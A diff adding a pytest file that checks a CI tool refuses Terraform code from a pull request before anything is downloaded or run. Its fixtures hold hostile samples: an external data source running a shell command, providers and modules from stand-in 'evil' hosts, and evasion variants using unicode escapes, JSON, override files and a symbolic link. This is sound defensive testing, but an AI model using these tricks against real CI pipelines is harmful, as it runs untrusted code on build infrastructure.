@@ -1,0 +1,126 @@
+"""Code that a pull request brings for a plan to run: refused before anything is downloaded or started."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.conftest import write_tree
+from tests.platforms import Platform, assert_refused
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+PULL = ("--event", "pull_request", "--ref", "refs/heads/change", "--target", "main")
+GITLAB = {
+    "GITLAB_CI": "true",
+    "CI_PIPELINE_SOURCE": "merge_request_event",
+    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": "change",
+    "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
+}
+EXTERNAL = 'data "external" "x" {\n  program = ["sh", "-c", "touch pwned"]\n}\n'
+EVIL = 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n'
+BROUGHT: dict[str, tuple[dict[str, str], str]] = {
+    "provider of another name": ({"infra/evil.tf": EVIL}, "infra/evil.tf:3: provider evil/aws"),
+    "provider of another host": (
+        {"infra/evil.tf": EVIL.replace("evil/aws", "evil.example/hashicorp/aws")},
+        "provider evil.example/hashicorp/aws",
+    ),
+    "provider of a module": (
+        {"infra/modules/cluster/evil.tf": EVIL},
+        "modules/cluster/evil.tf:3: provider evil/aws",
+    ),
+    "provider in JSON": (
+        {"infra/evil.tf.json": '{"terraform": [{"required_providers": {"aws": {"source": "evil/aws"}}}]}'},
+        "infra/evil.tf.json: provider evil/aws",
+    ),
+    "external": ({"infra/evil.tf": EXTERNAL}, "infra/evil.tf:1: data source external"),
+    "http": ({"infra/evil.tf": 'data "http" "x" {\n  url = "https://x"\n}\n'}, "data source http"),
+    "external without quotes": (
+        {"infra/evil.tf": EXTERNAL.replace('"external"', "external")},
+        "data source external",
+    ),
+    "external with an escape": (
+        {"infra/evil.tf": EXTERNAL.replace("external", "extern\\u0061l")},
+        "file infra/evil.tf cannot be read",
+    ),
+    "external behind an error": ({"infra/evil.tf": f"locals {{ a = 1e10 }}\n{EXTERNAL}"}, "infra/evil.tf"),
+    "external in JSON": (
+        {"infra/evil.tf.json": '{"data": {"external": {"x": {"program": ["id"]}}}, "data": {}}'},
+        "file infra/evil.tf.json cannot be read",
+    ),
+    "external in an override": ({"infra/x_override.tf": EXTERNAL}, "data source external"),
+    "module from elsewhere": (
+        {"infra/evil.tf": 'module "x" {\n  source = "git::https://evil.example/x?ref=v1"\n}\n'},
+        "module git::https://evil.example/x",
+    ),
+    "provider as a file": (
+        {"infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/99.0.0/linux_amd64/x": "#!/bin/sh\n"},
+        "x: a provider in the repository",
+    ),
+}
+
+
+@pytest.fixture
+def pull(hosted: Platform) -> Platform:
+    """A platform with the branch of a pull request checked out."""
+    hosted.git("checkout", "--quiet", "-b", "change")
+    return hosted
+
+
+def bring(pull: Platform, files: Mapping[str, str]) -> None:
+    write_tree(pull.root, files)
+    pull.git("add", "--force", "--all")
+    pull.commit()
+
+
+@pytest.mark.parametrize("case", BROUGHT)
+def test_code_for_a_plan_to_run_is_refused(pull: Platform, case: str) -> None:
+    files, words = BROUGHT[case]
+    bring(pull, files)
+    said = ["nothing of this pull request is planned", words, "`pull_requests` in kubestack.yaml"]
+    assert_refused(pull, "run", *PULL, code=5, words=said)
+    assert not (pull.root / "infra/.terraform").exists()
+    assert not list(pull.root.parent.rglob("pwned"))
+
+
+def test_code_for_a_plan_that_is_asked_for_is_refused(pull: Platform) -> None:
+    bring(pull, {"infra/evil.tf": EXTERNAL})
+    assert_refused(pull, "plan", "infra", code=5, words=["data source external"], **GITLAB)
+    assert not (pull.root / "infra/.terraform").exists()
+
+
+def test_code_behind_a_link_is_refused(pull: Platform) -> None:
+    """Git lists nothing below a link, so it is not read; Terraform would find it."""
+    module = 'module "x" {\n  source = "./modules/other"\n}\n'
+    write_tree(pull.root, {"infra/evil.tf": module, "hidden/main.tf": EXTERNAL})
+    (pull.root / "infra/modules/other").symlink_to("../../hidden", target_is_directory=True)
+    pull.commit()
+    words = ["infra/evil.tf:1: ./modules/other: a symbolic link to other code"]
+    assert_refused(pull, "run", *PULL, code=5, words=words)
+    assert not list(pull.root.parent.rglob("pwned"))
+
+
+def test_code_of_the_target_may_be_planned(hosted: Platform) -> None:
+    """What runs with every apply, what the official namespace has, and what the settings of main allow."""
+    hosted.edit(
+        "kubestack.yaml", "\nversion: 1\n", "\nversion: 1\npull_requests: {modules: [github.com/acme/*]}\n"
+    )
+    write_tree(hosted.root, {"infra/more.tf": EVIL})
+    hosted.commit()
+    hosted.push()
+    hosted.git("checkout", "--quiet", "-b", "change")
+    official = 'provider "random" {}\nmodule "x" {\n  source = "github.com/acme/x?ref=v2"\n}\n'
+    bring(hosted, {"infra/own.tf": official})
+    done = hosted.kubestack("run", *PULL)
+    assert "nothing of this pull request is planned" not in done.said
+    assert "infra (ops): failed" in done.out, "it is not to be had here, but it was tried"
+
+
+def test_pull_request_cannot_allow_itself_anything(pull: Platform) -> None:
+    pull.edit("kubestack.yaml", "\nversion: 1\n", "\nversion: 1\npull_requests: {external: allow}\n")
+    bring(pull, {"infra/evil.tf": EXTERNAL})
+    done = assert_refused(pull, "run", *PULL, code=5, words=["data source external"])
+    assert not list(pull.root.parent.rglob("pwned"))
+    assert "allow it on main first" in done.err
